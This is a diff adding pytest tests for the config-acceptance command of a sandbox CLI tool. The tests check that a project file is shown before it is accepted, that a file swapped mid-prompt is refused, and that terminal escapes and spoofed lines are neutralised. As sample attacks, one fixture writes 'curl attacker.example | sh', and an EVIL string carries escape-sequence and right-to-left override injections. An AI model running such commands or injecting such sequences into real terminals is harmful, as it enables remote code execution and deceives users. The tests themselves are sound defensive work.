@@ -1,8 +1,16 @@
 from __future__ import annotations
 
+import os
+from argparse import Namespace
 from pathlib import Path
+from typing import Any
 
-from tests.cli.conftest import Cli
+import pytest
+
+from remote_sandbox_mcp.cli import config, syncing
+from remote_sandbox_mcp.config.workspace_file import NAME, accepted_file
+from remote_sandbox_mcp.core.errors import ConfigError
+from tests.cli.conftest import Cli, at_a_terminal
 
 CONFIG = """
 default = "gpu2"
@@ -81,3 +89,80 @@ def test_a_broken_file_is_not_told_as_one_that_is_not_there(cli: Cli, tmp_path: 
     assert f"config file  {file} (cannot be used)" in page.stdout
     assert "it is not valid TOML" in page.stdout
     assert "(not there)" not in page.stdout
+
+
+# Accepting what a project brings
+
+EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\nAccepted: nothing to see\u202e"
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    """A cloned repository; nothing of its file is accepted yet."""
+    folder = tmp_path / "project"
+    folder.mkdir()
+    (folder / NAME).write_text('sandbox = "gpu1"\ninit = "make tools"\n')
+    return folder
+
+
+@pytest.mark.parametrize(("typed", "is_accepted"), [(b"y\n", True), (b"n\n", False), (b"\n", False), (b"\x04", False)])
+def test_a_file_is_shown_then_asked_about_then_accepted(
+    cli: Cli, project: Path, typed: bytes, is_accepted: bool
+) -> None:
+    seen = at_a_terminal(cli, "config", "allow", str(project), typed=typed)
+    content, counts = seen.index('| init = "make tools"'), seen.index("  init = make tools")
+    assert content < counts < seen.index("Accept it as it is now? [y/N]")
+    assert ("Accepted as it is now:" in seen) is is_accepted
+    assert (accepted_file(str(project)) is not None) is is_accepted
+
+
+@pytest.mark.parametrize("words", [(), ("--json",)], ids=["for people", "for programs"])
+def test_without_a_terminal_nothing_is_accepted_unless_it_is_said_before(
+    cli: Cli, project: Path, words: tuple[str, ...]
+) -> None:
+    refused = cli("config", "allow", str(project), *words)
+    assert refused.code == 2
+    assert "then add --yes" in (refused.json["error"] if words else refused.stderr)
+    assert accepted_file(str(project)) is None
+    assert cli("config", "allow", str(project), "--yes", *words).code == 0
+    assert accepted_file(str(project)) is not None
+
+
+async def test_a_file_that_changes_before_the_answer_is_not_accepted(
+    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    async def exchanged(question: str) -> bool:
+        (project / NAME).write_text('init = "curl attacker.example | sh"\n')
+        return True
+
+    monkeypatch.setattr(syncing, "asked", exchanged)
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
+    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
+    options = Namespace(action="allow", file=str(project), json=False, yes=False)
+    with pytest.raises(ConfigError, match="has changed since it was shown"):
+        await config.run(options)
+    assert accepted_file(str(project)) is None
+    assert "attacker" not in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("verb", [("config", "allow", "--yes"), ("config", "deny"), ("config", "show")], ids=" ".join)
+def test_a_folders_name_moves_nothing_on_the_terminal(
+    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, verb: tuple[str, ...]
+) -> None:
+    folder = tmp_path / EVIL
+    folder.mkdir()
+    (folder / NAME).write_text('init = "make"\n')
+    monkeypatch.chdir(folder)
+    if verb != ("config", "allow", "--yes"):
+        assert cli("config", "allow", "--yes").code == 0
+    named: tuple[Any, ...] = () if verb[-1] == "show" else (os.getcwd(),)
+    for said in (at_a_terminal(cli, *verb, *named), (plain := cli(*verb, *named)).stdout, plain.stderr):
+        assert [mark for mark in ("\x1b]0", "\x1b[2J", "\x07", "\u202e") if mark in said] == []
+        assert "\nAccepted: nothing to see" not in said.replace("\r", "")
+
+
+def test_a_file_cannot_speak_in_our_place(cli: Cli, project: Path) -> None:
+    (project / NAME).write_text('init = "evil"\n#\n#\nonly_remote = true #\r\n# What counts of it:\n#  nothing\n')
+    seen = cli("config", "allow", str(project), "--yes").stderr
+    assert seen.count("\nWhat counts of it:\n") == 1
+    assert seen.endswith("What counts of it:\n  init = evil\n  only_remote = yes\n")
